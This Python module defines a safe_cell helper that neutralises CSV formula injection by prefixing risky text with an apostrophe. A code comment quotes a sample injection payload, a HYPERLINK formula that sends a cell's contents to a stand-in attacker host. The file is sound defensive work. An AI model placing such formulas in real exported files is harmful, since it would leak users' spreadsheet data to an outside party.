"""Cells for CSV files that people open in a spreadsheet."""

from __future__ import annotations

from decimal import Decimal

# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection, e.g.
# `=HYPERLINK("https://evil.example/?"&A1)`); a leading apostrophe makes it plain text again.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """`value` ready for csv.writer: numbers as they are, None as an empty cell, text defused of formulas.

    Numbers are left alone (a negative amount is a number to the spreadsheet, not a formula); anything else is
    written as text, with an apostrophe in front if it would start a formula.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text
